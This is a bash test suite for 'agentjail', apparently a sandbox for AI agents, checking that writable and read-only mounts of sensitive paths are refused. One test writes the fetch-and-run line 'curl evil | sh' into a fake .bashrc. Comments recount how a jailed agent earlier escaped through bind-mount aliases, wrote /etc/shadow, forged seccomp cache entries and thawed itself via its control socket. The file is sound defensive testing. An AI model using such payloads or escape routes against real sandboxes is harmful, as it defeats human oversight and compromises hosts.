#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Where a jail may write: a workspace or a read-write bind that is, or contains, a
# sensitive place (/tmp, a home directory, /srv...) is refused unless the profile's
# filesystem.allow_sensitive names it; one that touches agentjail's own state, runtime
# or profile dirs is always refused. Rootless, the /tmp fallback runtime dir must be the
# invoker's alone. Each run here did harm before the rule existed.

. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

require_jail
require_root
setup_dirs

# refused DESC PATTERN: the last run was refused before the command ran.
refused() {
        is "$JAIL_RC" 125 "$1: the run is refused (125)" || diag "$JAIL_ERR"
        like "$JAIL_ERR" "$2" "$1: the message names the path and the rule"
}

# --- run from /tmp: the agent reached the host's /tmp and its Unix sockets
MARK="agentjail-test-mark.$$"
cd /tmp || exit 1
run_jail -- /bin/sh -c "echo x > $MARK"
cd "$WORKSPACE" || exit 1
refused "workspace /tmp" "refusing '/tmp': it (is|contains) .*rule: "
ok "workspace /tmp: nothing was written to the host's /tmp" test ! -e "/tmp/$MARK"
rm -f "/tmp/$MARK"

# --- through a symlink to /tmp, named in a profile: the real path is what counts
ln -s /tmp "$TEST_TMP/tmplink"
cat >"$TEST_TMP/profiles/via-link.json" <<JSON
{"extends": "default", "filesystem": {"workspace": {"path": "$TEST_TMP/tmplink"}}}
JSON
run_jail -p "$TEST_TMP/profiles/via-link.json" -- /bin/true
refused "a workspace that is a symlink to /tmp" "refusing '/tmp'"

# --- through a bind mount of a sensitive place: another path of the same directory. Judged
# by path alone, the agent wrote the host's /tmp through it (and /root/.bashrc through a bind
# of /root).
mkdir -p "$TEST_TMP/tmpalias" "$TEST_TMP/tmpalias2"
if mount --bind /tmp "$TEST_TMP/tmpalias" && mount --bind "$TEST_TMP" "$TEST_TMP/tmpalias2"; then
        cd "$TEST_TMP/tmpalias" || exit 1
        run_jail -- /bin/sh -c "echo x > $MARK"
        cd "$WORKSPACE" || exit 1
        refused "a workspace that is a bind mount of /tmp" \
                "refusing '$TEST_TMP/tmpalias': it (is|contains) '[^']*' \\(under another name: a bind mount\\)"
        ok "a bind mount of /tmp as the workspace: nothing was written to the host's /tmp" test ! -e "/tmp/$MARK"
        rm -f "/tmp/$MARK"
        run_jail --rw "$TEST_TMP/tmpalias2/state" -- /bin/true
        refused "--rw of the state dir through a bind mount" \
                "--rw: refusing '$TEST_TMP/tmpalias2/state': it is '$AGENTJAIL_STATE_DIR' \\(under another name: a bind mount\\)"
        umount "$TEST_TMP/tmpalias2" "$TEST_TMP/tmpalias"
else
        fail "bind-mount /tmp and \$TEST_TMP for the alias tests"
fi
# A workspace that holds a mount of a sensitive place: the workspace's bind carries it in.
mkdir -p "$TEST_TMP/holder/sub"
if mount --bind /tmp "$TEST_TMP/holder/sub"; then
        cd "$TEST_TMP/holder" || exit 1
        run_jail -- /bin/sh -c "echo x > sub/$MARK"
        cd "$WORKSPACE" || exit 1
        refused "a workspace holding a mount of /tmp" \
                "'$TEST_TMP/holder' holds a mount: refusing '$TEST_TMP/holder/sub': it (is|contains) '[^']*' \\(under another name: a bind mount\\)"
        ok "a workspace holding a mount of /tmp: nothing was written to the host's /tmp" test ! -e "/tmp/$MARK"
        rm -f "/tmp/$MARK"
        umount "$TEST_TMP/holder/sub"
else
        fail "bind-mount /tmp into a workspace"
fi

# --- run from a home directory (a temporary HOME stands in for /root): it wrote .bashrc
FAKE_HOME="$TEST_TMP/home"
mkdir -p "$FAKE_HOME"
cd "$FAKE_HOME" || exit 1
HOME=$FAKE_HOME run_jail -- /bin/sh -c 'echo "curl evil | sh" >> .bashrc'
cd "$WORKSPACE" || exit 1
refused "workspace = \$HOME" "refusing '$FAKE_HOME': "
ok "workspace = \$HOME: no .bashrc was written" test ! -e "$FAKE_HOME/.bashrc"
mkdir -p "$FAKE_HOME/project"
cd "$FAKE_HOME/project" || exit 1
HOME=$FAKE_HOME run_jail -- /bin/sh -c 'echo ok > made'
cd "$WORKSPACE" || exit 1
is "$JAIL_RC" 0 "a project directory inside \$HOME is fine" || diag "$JAIL_ERR"
HOME=$FAKE_HOME run_jail --rw "$FAKE_HOME" -- /bin/true
refused "--rw \$HOME" "--rw: refusing '$FAKE_HOME'"

# --- run from the state dir's parent: it rewrote the compiled seccomp cache
cd "$TEST_TMP" || exit 1
run_jail -- /bin/sh -c 'for f in state/cache/seccomp/*; do printf x > "$f"; done; : > state/planted'
cd "$WORKSPACE" || exit 1
refused "workspace containing the state dir" "refusing '$TEST_TMP': it contains '$AGENTJAIL_STATE_DIR'.*never"
ok "the state dir was not written" test ! -e "$AGENTJAIL_STATE_DIR/planted"
run_jail --rw "$AGENTJAIL_STATE_DIR/cache" -- /bin/true
refused "--rw inside the state dir" "--rw: refusing '$AGENTJAIL_STATE_DIR/cache': it is inside"
run_jail --rw "$AGENTJAIL_RUNTIME_DIR" -- /bin/true
refused "--rw of the runtime dir" "--rw: refusing '$AGENTJAIL_RUNTIME_DIR': it is '"

# --- the same through a bind-mount alias of the state dir's parent: the paths differ, the
# directories are the same ones (dev/ino). The agent read rt/seccomp-cache.key and forged a
# cache entry for the next run.
ALIAS=$(mktemp -d /var/tmp/agentjail-alias.XXXXXX) || exit 1
ALIAS2=$(mktemp -d /var/tmp/agentjail-alias.XXXXXX) || exit 1
umount_alias() {
        local a
        for a in "$ALIAS" "$ALIAS2"; do
                mountpoint -q "$a" && umount -l "$a"
                rmdir "$a" 2>/dev/null
        done
        return 0
}
trap 'umount_alias; cleanup' EXIT
if mount --bind "$TEST_TMP" "$ALIAS"; then
        cd "$ALIAS" || exit 1
        run_jail -- /bin/sh -c 'cat runtime/seccomp-cache.key > /dev/null && : > state/planted'
        cd "$WORKSPACE" || exit 1
        refused "a workspace that is a bind-mount alias of the state dir's parent" \
                "refusing '$ALIAS': it contains '$AGENTJAIL_STATE_DIR' .under another name: a bind mount., agentjail's state dir.*never"
        ok "the state dir was not written through the alias" test ! -e "$AGENTJAIL_STATE_DIR/planted"
        run_jail --rw "$ALIAS" -- /bin/true
        refused "--rw of the alias" "--rw: refusing '$ALIAS': it contains '$AGENTJAIL_STATE_DIR'"
        run_jail --rw "$ALIAS/state/cache" -- /bin/true
        refused "--rw inside the state dir through the alias" \
                "--rw: refusing '$ALIAS/state/cache': it is inside '$AGENTJAIL_STATE_DIR'"
        run_jail --ro "$ALIAS/runtime" -- /bin/true
        refused "--ro of the runtime dir through the alias" \
                "--ro: refusing '$ALIAS/runtime': it is '$AGENTJAIL_RUNTIME_DIR'"
        run_jail --ro "$ALIAS/workspace" -- /bin/true
        is "$JAIL_RC" 0 "a bind of an ordinary directory through the alias still runs" || diag "$JAIL_ERR"
        # A bind of a subdirectory of the state dir: its ".." leads to where it is mounted,
        # but inside their filesystem it is still below the state dir.
        mkdir -p "$AGENTJAIL_STATE_DIR/cache"
        if mount --bind "$AGENTJAIL_STATE_DIR/cache" "$ALIAS2"; then
                run_jail --rw "$ALIAS2" -- /bin/true
                refused "--rw of a bind mount of the state dir's cache" \
                        "--rw: refusing '$ALIAS2': it is inside '$AGENTJAIL_STATE_DIR' .under another name: a bind mount."
                run_jail --ro "$ALIAS2" -- /bin/true
                refused "--ro of a bind mount of the state dir's cache" "--ro: refusing '$ALIAS2': it is inside '$AGENTJAIL_STATE_DIR'"
        else
                fail "a bind mount of the state dir's cache can be made" "mount --bind failed"
        fi
else
        fail "a bind-mount alias can be made" "mount --bind '$TEST_TMP' '$ALIAS' failed"
fi
umount_alias
trap cleanup EXIT

# --- $XDG_CONFIG_HOME inside the workspace: it planted profiles/default.json
XDG_CONFIG_HOME="$WORKSPACE/.config" run_jail -- /bin/sh -c \
        'mkdir -p .config/agentjail/profiles && echo "{\"filesystem\": {}}" > .config/agentjail/profiles/default.json'
refused "a workspace containing \$XDG_CONFIG_HOME/agentjail" "refusing '$WORKSPACE': it contains '$WORKSPACE/.config/agentjail"
ok "no profile was planted" test ! -e "$WORKSPACE/.config/agentjail/profiles/default.json"

# --- the system itself as an rw bind: idmapped, a root-owned /etc or /usr is the agent's as
# root's (it wrote /etc/shadow, the programs in /usr/bin). No profile can allow it.
run_jail --rw /etc -- /bin/sh -c "echo x > /etc/$MARK"
refused "--rw /etc" "--rw: refusing '/etc': it is '/etc', the system's configuration .rule: the system's own directories are never mounted writable"
ok "--rw /etc: nothing was written to the host's /etc" test ! -e "/etc/$MARK"
rm -f "/etc/$MARK"
# /usr/bin holds no agentjail file: before the rule, the agent wrote root-owned programs there.
run_jail --rw /usr/bin:/opt/bin -- /bin/sh -c "echo x > /opt/bin/$MARK"
refused "--rw /usr/bin" "--rw: refusing '/usr/bin': it is inside '/usr', the system's programs and libraries .rule: the system's own directories"
ok "--rw /usr/bin: nothing was written to the host's /usr/bin" test ! -e "/usr/bin/$MARK"
rm -f "/usr/bin/$MARK"
# /var is a generic place too, but as a whole (root's crontab, dpkg's scripts) it is the system's.
P=$(write_profile rw-var '{"extends": "default", "filesystem": {"rw": ["/var:/opt/var"], "allow_sensitive": ["/var"]}}')
run_jail -p "$P" -- /bin/true
refused "filesystem.rw /var, even with allow_sensitive" "filesystem.rw: refusing '/var': it is '/var', the system's variable data .rule: the system's own directories"
run_jail --rw /:/host -- /bin/true
refused "--rw /" "--rw: refusing '/': it is '/'"

# --- read-only binds: a Unix socket accepts connect() through a read-only mount, and a
# home's files are read. Generic places need the opt-out; agentjail's data dirs never.
run_jail --ro /tmp -- /bin/true
# (The tests' state dir is under /tmp: the message may name it rather than /tmp.)
refused "--ro /tmp" "--ro: refusing '/tmp': it (is|contains) '.*rule: .*mounted, even read-only"
SOCK="$FAKE_HOME/agent.sock"
python3 -c '
import os, socket, sys, time
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
s.listen(8)
print("listening", flush=True)
time.sleep(60)
' "$SOCK" >"$TEST_TMP/listener.out" 2>&1 &
BG_PIDS+=($!)
if wait_for_output "$TEST_TMP/listener.out" '^listening' 10; then
        is "$(pval connect "$("$PROBE" connect-unix "$SOCK")")" OK "control: the socket in \$HOME accepts on the host"
        HOME=$FAKE_HOME run_jail --ro "$FAKE_HOME" -- ./probe connect-unix "$SOCK"
        refused "--ro \$HOME (an agent socket in it)" "--ro: refusing '$FAKE_HOME': it is '$FAKE_HOME', the invoking user's home directory .rule: sensitive places are not mounted, even read-only"
        isnt "$(pval connect)" OK "--ro \$HOME refused: the socket was not reached"
        P=$(write_profile ro-home '{"extends": "default", "filesystem": {"allow_sensitive": ["~"]}}')
        HOME=$FAKE_HOME run_jail -p "$P" --ro "$FAKE_HOME" -- ./probe connect-unix "$SOCK"
        is "$JAIL_RC" 0 "--ro \$HOME with allow_sensitive [\"~\"] runs" || diag "$JAIL_ERR"
        is "$(pval connect)" OK "and the read-only bind reaches the host socket (what the opt-out allows)"
        like "$(jq -r 'select(.type == "degraded" and .what == "sensitive") | .why' "$JAIL_RUN_DIR/events.jsonl" 2>/dev/null)" \
                "^--ro '$FAKE_HOME' is $FAKE_HOME .*allowed by filesystem.allow_sensitive" "the opted-out --ro is recorded degraded"
else
        fail "started a Unix socket listener" "$(cat "$TEST_TMP/listener.out")"
fi
kill_bg
P=$(write_profile ro-runtime '{"extends": "default", "filesystem": {"allow_sensitive": ["'"$AGENTJAIL_RUNTIME_DIR"'", "'"$AGENTJAIL_STATE_DIR"'"]}}')
run_jail -p "$P" --ro "$AGENTJAIL_RUNTIME_DIR" -- /bin/true
refused "--ro of the runtime dir (control sockets), even with allow_sensitive" "--ro: refusing '$AGENTJAIL_RUNTIME_DIR': it is '$AGENTJAIL_RUNTIME_DIR', agentjail's runtime dir.*never mounted, even read-only"
run_jail -p "$P" --ro "$AGENTJAIL_STATE_DIR/runs" -- /bin/true
refused "--ro of other runs' records, even with allow_sensitive" "--ro: refusing '$AGENTJAIL_STATE_DIR/runs': it is inside '$AGENTJAIL_STATE_DIR'"

# --- a read-only workspace is checked as strictly (idmapped, the agent reads as the owner)
cd /etc || exit 1
run_jail -p strict -- /bin/true
refused "a read-only workspace of /etc" "filesystem.workspace: refusing '/etc': it is '/etc'.*rule: the system's own directories"
cd /tmp || exit 1
run_jail -p strict -- /bin/true
cd "$WORKSPACE" || exit 1
refused "a read-only workspace of /tmp" "filesystem.workspace: refusing '/tmp': it (is|contains) '"

# --- the opt-out: a generic place named in filesystem.allow_sensitive, recorded
if [[ -d /srv ]]; then
        cat >"$TEST_TMP/profiles/srv.json" <<'JSON'
{"extends": "default", "filesystem": {"workspace": {"path": "/srv", "mode": "ro"}, "allow_sensitive": ["/srv"]}}
JSON
        cat >"$TEST_TMP/profiles/srv-no.json" <<'JSON'
{"extends": "default", "filesystem": {"workspace": {"path": "/srv", "mode": "ro"}}}
JSON
        run_jail -p "$TEST_TMP/profiles/srv-no.json" -- /bin/true
        refused "workspace /srv" "refusing '/srv': it is '/srv'.*allow_sensitive"
        run_jail -p "$TEST_TMP/profiles/srv.json" -- /bin/true
        is "$JAIL_RC" 0 "workspace /srv with allow_sensitive [\"/srv\"] runs" || diag "$JAIL_ERR"
        like "$JAIL_ERR" "sensitive is not enforced" "the operator is told"
        is "$(jq -r 'select(.type == "degraded") | .what' "$JAIL_RUN_DIR/events.jsonl" 2>/dev/null)" sensitive \
                "the run records a degraded event"
        cat >"$TEST_TMP/profiles/state-allowed.json" <<JSON
{"extends": "default", "filesystem": {"allow_sensitive": ["$TEST_TMP", "$AGENTJAIL_STATE_DIR", "/tmp"]}}
JSON
        cd "$TEST_TMP" || exit 1
        run_jail -p "$TEST_TMP/profiles/state-allowed.json" -- /bin/true
        cd "$WORKSPACE" || exit 1
        refused "agentjail's own dirs cannot be opted out" "refusing '$TEST_TMP': it contains '$AGENTJAIL_STATE_DIR'"
else
        fail "/srv exists for the opt-out test" "no /srv on this host"
fi

# --- a symlink the agent left in its workspace where a later mount's target lies: the jail's
# init resolves every target inside the new root, so a link to /etc is the jail's /etc and
# a link to a host path the jail does not have fails the run; nothing is made on the host.
mkdir -p "$TEST_TMP/bindsrc" "$TEST_TMP/outside"
chmod 0777 "$TEST_TMP/outside"
echo from-bind >"$TEST_TMP/bindsrc/file"
ln -s "$TEST_TMP/outside" "$WORKSPACE/to-host"
ln -s /etc "$WORKSPACE/to-etc"
SYS_RO='"/usr", "/bin", "/sbin", "/lib", "?/lib64"'
for tgt in "$WORKSPACE/to-host/x" "$WORKSPACE/to-host"; do
        PL=$(write_profile ws-link '{"extends": "default", "filesystem": {"ro": ['"$SYS_RO"', "'"$TEST_TMP/bindsrc:$tgt"'"]}}')
        run_jail -p "$PL" -- /bin/true
        is "$JAIL_RC" 125 "a bind on '${tgt#"$WORKSPACE"/}' through a workspace link to a host path: refused (125)" ||
                diag "$JAIL_ERR"
        like "$JAIL_ERR" "Failed to build the jail's filesystem: bind '$TEST_TMP/bindsrc' on '$tgt' \\(read-only\\): No such file or directory" \
                "... the message names the mount step"
        is "$(ls -A "$TEST_TMP/outside")" "" "... nothing was made at the host path the link names"
done
# The child failing a mount step races the supervisor handing it its v1 cgroups: a send that
# found the child gone failed the start with "Broken pipe" in place of the child's report (12
# of 60 runs on the 2-core test host). Twenty runs of the refused bind, each saying why.
PL=$(write_profile ws-link '{"extends": "default", "filesystem": {"ro": ['"$SYS_RO"', "'"$TEST_TMP/bindsrc:$WORKSPACE/to-host/x"'"]}}')
said=0 wrong=
for ((i = 0; i < 20; i++)); do
        run_jail -p "$PL" -- /bin/true
        if [[ $JAIL_RC == 125 && $JAIL_ERR == *"Failed to build the jail's filesystem: bind "* ]]; then
                said=$((said + 1))
        else
                wrong="$JAIL_RC: $JAIL_ERR"
        fi
done
is "$said" 20 "20 runs of the refused bind: each says the mount step failed, none the handover's error" ||
        diag "$wrong"
PL=$(write_profile ws-link-etc '{"extends": "default", "filesystem": {"ro": ['"$SYS_RO"', "'"$TEST_TMP/bindsrc:$WORKSPACE/to-etc/agentjail-test-x"'"]}}')
run_jail -p "$PL" -- /bin/sh -c "cat /etc/agentjail-test-x/file $WORKSPACE/to-etc/agentjail-test-x/file"
is "$JAIL_RC" 0 "a bind through a workspace link to /etc runs" || diag "$JAIL_ERR"
is "$JAIL_OUT" $'from-bind\nfrom-bind' "... the mount is the jail's /etc/agentjail-test-x"
ok "... the host's /etc is untouched" test ! -e /etc/agentjail-test-x
rm -f "$WORKSPACE/to-host" "$WORKSPACE/to-etc"

# --- a workspace on a host mount with shared propagation (the host's "/" under systemd): the
# trees the supervisor cloned from it were its peers, so the jail's own mounts in the workspace
# (a bind, a hide; the agent's links choose where) appeared in the host's mount namespace and
# stayed there after the run.
SH="$TEST_TMP/shared"
mkdir -p "$SH/ws/sub" "$SH/src"
echo from-src >"$SH/src/file"
if mount --bind "$SH" "$SH" && mount --make-shared "$SH"; then
        cd "$SH/ws" || exit 1
        run_jail --ro "$SH/src:$SH/ws/sub" -- /bin/sh -c "cat sub/file; grep -F ' $SH/ws' /proc/self/mountinfo"
        cd "$WORKSPACE" || exit 1
        is "$JAIL_RC" 0 "a workspace on a shared host mount, with a bind in it: the run works" || diag "$JAIL_ERR"
        like "$JAIL_OUT" "^from-src" "... the bind is in the jail's workspace"
        unlike "$JAIL_OUT" "shared:" "... the jail's workspace and the bind in it propagate nothing (no peer group)"
        is "$(awk -v t="$SH/ws/" 'index($5, t) == 1 { print $5 }' /proc/self/mountinfo)" "" \
                "... nothing the jail mounted is in the host's mount namespace after the run"
        umount -l "$SH/ws/sub" 2>/dev/null
        umount -l "$SH"
else
        fail "a shared bind mount can be made here" "mount --bind/--make-shared failed"
fi

# --- rootless, no XDG_RUNTIME_DIR: the runtime dir falls back to /tmp/agentjail-UID, which
# any local user can create first. A uid of its own keeps this test from meeting others.
if command -v setpriv >/dev/null && setpriv --reuid=65534 --regid=65534 --clear-groups unshare -U true 2>/dev/null; then
        U=$((3000000 + RANDOM))
        FB="/tmp/agentjail-$U"
        RL="$TEST_TMP/rootless"
        mkdir -p "$RL/ws" "$RL/state"
        echo '{"extends": "default", "allow_degraded": ["limits"]}' >"$RL/p.json"
        AJ_U=$(agentjail_for_others "$RL") || exit 1
        chown -R "$U:$U" "$RL"
        as_u() {
                (cd "${U_CWD:-$RL/ws}" && timeout -k 5 60 setpriv --reuid="$U" --regid="$U" --clear-groups \
                        env -i PATH=/usr/bin:/bin HOME="$RL" AGENTJAIL_STATE_DIR="$RL/state" \
                        "$AJ_U" run -p "$RL/p.json" ${U_ARGS:-} -- /bin/sh -c 'echo ran') >"$TEST_TMP/u.out" 2>"$TEST_TMP/u.err"
                U_RC=$?
                U_ERR=$(cat "$TEST_TMP/u.err")
        }
        rm -rf --one-file-system "$FB"
        install -d -m 0700 -o 65534 -g 65534 "$FB"
        as_u
        is "$U_RC" 125 "rootless: a /tmp/agentjail-UID made by another user is refused" || diag "$U_ERR"
        like "$U_ERR" "refusing the runtime directory '$FB': it belongs to another user" "and the message says why"
        rm -rf "$FB"
        install -d -m 0777 -o "$U" -g "$U" "$FB"
        as_u
        is "$U_RC" 125 "rootless: a /tmp/agentjail-UID with mode 0777 is refused" || diag "$U_ERR"
        like "$U_ERR" "its mode is not 0700" "and the message says why"
        rm -rf "$FB"
        ln -s "$RL" "$FB"
        as_u
        is "$U_RC" 125 "rootless: a symlink at /tmp/agentjail-UID is refused" || diag "$U_ERR"
        rm -f "$FB"
        as_u
        is "$U_RC" 0 "rootless: without one, it is created and the run starts" || diag "$U_ERR"
        is "$(stat -c '%u %a %F' "$FB" 2>/dev/null)" "$U 700 directory" "the fallback dir is the invoker's, mode 0700"
        # From /tmp, the agent reached its own control socket there and thawed itself.
        U_CWD=/tmp as_u
        is "$U_RC" 125 "rootless from /tmp (which holds the runtime dir): refused" || diag "$U_ERR"
        like "$U_ERR" "refusing '/tmp': it contains" "the message says why"
        U_ARGS="--rw $FB" as_u
        is "$U_RC" 125 "rootless: the fallback runtime dir as an rw bind: refused" || diag "$U_ERR"
        like "$U_ERR" "refusing '$FB': it is '$FB', agentjail's runtime dir" "the message names the runtime dir"
        rm -rf --one-file-system "$FB"
        # A state dir another user made first (AGENTJAIL_STATE_DIR=/tmp/...): doctor called
        # it a problem, yet runs wrote there, and that user swapped a run's directory for one
        # of their own (forged records; forged undo records for `rollback --apply`).
        SQ="$TEST_TMP/squat-state"
        install -d -m 0755 -o 65534 -g 65534 "$SQ"
        install -d -m 0777 -o 65534 -g 65534 "$SQ/runs"
        (cd "$RL/ws" && timeout -k 5 60 setpriv --reuid="$U" --regid="$U" --clear-groups \
                env -i PATH=/usr/bin:/bin HOME="$RL" AGENTJAIL_STATE_DIR="$SQ" \
                "$AJ_U" run -p "$RL/p.json" -- /bin/sh -c 'echo ran') >"$TEST_TMP/u.out" 2>"$TEST_TMP/u.err"
        is "$?" 125 "rootless: a state dir of another user's is refused" || diag "$(cat "$TEST_TMP/u.err")"
        like "$(cat "$TEST_TMP/u.err")" "refusing the state directory '$SQ': it belongs to another user" \
                "and the message says why"
        is "$(ls -A "$SQ/runs")" "" "no run directory was made there"
        (cd "$RL/ws" && setpriv --reuid="$U" --regid="$U" --clear-groups env -i PATH=/usr/bin:/bin HOME="$RL" \
                AGENTJAIL_STATE_DIR="$SQ" "$AJ_U" ps) >"$TEST_TMP/u.out" 2>"$TEST_TMP/u.err"
        is "$?" 1 "nor do operator commands read it" || diag "$(cat "$TEST_TMP/u.err")"
        rm -rf "$SQ"
else
        fail "rootless runs can be started here" "setpriv or unprivileged user namespaces missing"
fi

done_testing
